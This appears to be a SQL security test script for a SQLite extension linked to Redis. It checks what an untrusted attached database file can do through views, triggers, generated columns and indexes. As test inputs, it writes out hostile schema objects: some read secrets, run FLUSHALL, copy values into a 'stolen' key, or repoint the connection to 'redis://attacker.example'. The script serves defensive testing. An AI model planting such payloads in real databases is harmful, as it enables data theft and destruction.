-- What a database file that somebody else wrote can do: name keys to delete, and nothing else.
ATTACH 'hostile.db' AS file;
CREATE TABLE file.secrets (id INTEGER PRIMARY KEY, v);
INSERT INTO file.secrets VALUES (1, 'a');
SELECT redis_set('secret', 'token'), redis_set('user:1', 1), redis_set('session:1', 1);
.print == views
CREATE VIEW file.v1 AS SELECT redis_get('secret') AS v;
CREATE VIEW file.v2 AS SELECT key FROM redis_scan;
CREATE VIEW file.v3 AS SELECT redis_call('FLUSHALL') AS v;
CREATE VIEW file.v4 AS SELECT * FROM redis_info;
CREATE VIEW file.v5 AS SELECT redis_config('url', 'redis://attacker.example') AS v;
CREATE VIEW file.v6 AS SELECT redis_invalidate_on('secrets', '{v}') AS v;
CREATE VIEW file.v7 AS SELECT key FROM redis_scan('*');
CREATE VIEW file.v8 AS SELECT redis_url() AS v;
SELECT * FROM v1;
SELECT * FROM v2;
SELECT * FROM v3;
SELECT * FROM v4;
SELECT * FROM v5;
SELECT * FROM v6;
SELECT * FROM v7;
SELECT * FROM v8;
.print == triggers
CREATE TRIGGER file.t1 AFTER INSERT ON secrets BEGIN SELECT redis_set('stolen', NEW.v); END;
INSERT INTO secrets VALUES (2, 'b');
DROP TRIGGER file.t1;
CREATE TRIGGER file.t2 BEFORE INSERT ON secrets WHEN redis_del('secret') BEGIN SELECT 1; END;
INSERT INTO secrets VALUES (3, 'c');
DROP TRIGGER file.t2;
CREATE TRIGGER file.t3 AFTER INSERT ON secrets BEGIN SELECT redis_config('on_error', 'null'); END;
INSERT INTO secrets VALUES (4, 'd');
DROP TRIGGER file.t3;
CREATE TRIGGER file.t4 AFTER INSERT ON secrets BEGIN INSERT INTO secrets SELECT NULL, key FROM redis_scan; END;
INSERT INTO secrets VALUES (5, 'e');
DROP TRIGGER file.t4;
SELECT count(*) FROM secrets;
.print == other places of a schema
CREATE TABLE file.c2 (a, b AS (redis_get(a)));
CREATE TABLE file.c3 (a DEFAULT (redis_get('secret')));
INSERT INTO c3 DEFAULT VALUES;
CREATE INDEX file.i ON secrets (redis_get(v));
CREATE INDEX file.i ON secrets (v) WHERE redis_exists(v);
.print == redis_invalidate is what triggers may call, within what the application allows
CREATE TRIGGER file.t5 AFTER DELETE ON secrets BEGIN SELECT redis_invalidate(OLD.v); END;
CREATE VIEW file.v9 AS SELECT redis_invalidate('user:1') AS v;
INSERT INTO secrets VALUES (6, 'user:1'), (7, 'session:1'), (8, 'user:2'), (9, CAST(x'757365723a3100' AS TEXT));
SELECT redis_config('invalidate_keys', 'user:*, page:[0-9]*');
DELETE FROM secrets WHERE id = 7;
DELETE FROM secrets WHERE id = 9;
DELETE FROM secrets WHERE id = 8;
SELECT redis_exists('user:1', 'session:1');
DELETE FROM secrets WHERE id = 6;
SELECT redis_exists('user:1', 'session:1');
SELECT redis_invalidate('session:1');
SELECT redis_invalidate('user:1', 'session:1');
BEGIN;
SELECT redis_invalidate('page:7', 'user:');
SELECT redis_invalidate('user:5', 'page:x');
SELECT key FROM redis_pending;
ROLLBACK;
SELECT redis_config('invalidate_keys', '');
SELECT redis_invalidate('session:1'), redis_exists('session:1');
SELECT * FROM v9;
.print == a schema that is not trusted: no triggers but TEMP ones
SELECT redis_invalidate_on('secrets', 's:{id}');
PRAGMA trusted_schema = OFF;
DELETE FROM secrets WHERE id = 1;
SELECT * FROM v9;
SELECT redis_invalidate_off('secrets');
DROP TRIGGER file.t5;
SELECT redis_invalidate_on('secrets', 's:{id}');
SELECT redis_config('trigger_mode', 'temp');
SELECT redis_invalidate_on('secrets', 's:{id}'), redis_set('s:1', 1);
DELETE FROM secrets WHERE id = 1;
SELECT redis_exists('s:1');
PRAGMA trusted_schema = ON;
.print == the table behind transactions is no use to a file
CREATE VIRTUAL TABLE file.x USING sqlredis_transaction;
CREATE VIRTUAL TABLE temp.x USING sqlredis_transaction;
SELECT count(*) FROM temp.sqlredis_transaction;
INSERT INTO temp.sqlredis_transaction VALUES (1);
SELECT * FROM sqlredis_transaction WHERE unused = 1;
.print == markers that lie
CREATE TRIGGER file.m1 AFTER UPDATE ON secrets BEGIN /* sqlredis 1 99 zz - [ */ SELECT 1; END;
CREATE TRIGGER file.m2 AFTER UPDATE ON secrets BEGIN /* sqlredis 1 5 0123456789abcdef - ["faked \/ {x}"] */ SELECT 1; END;
CREATE TRIGGER file.m3 AFTER UPDATE ON secrets BEGIN /* sqlredis 1 5 0123456789abcdef zz0 [] */ SELECT 1; END;
CREATE TRIGGER file.m4 AFTER UPDATE ON secrets BEGIN /* sqlredis 1 */ SELECT 1; END;
SELECT * FROM redis_invalidations;
SELECT redis_get('secret'), redis_exists('stolen'), redis_config('on_error');
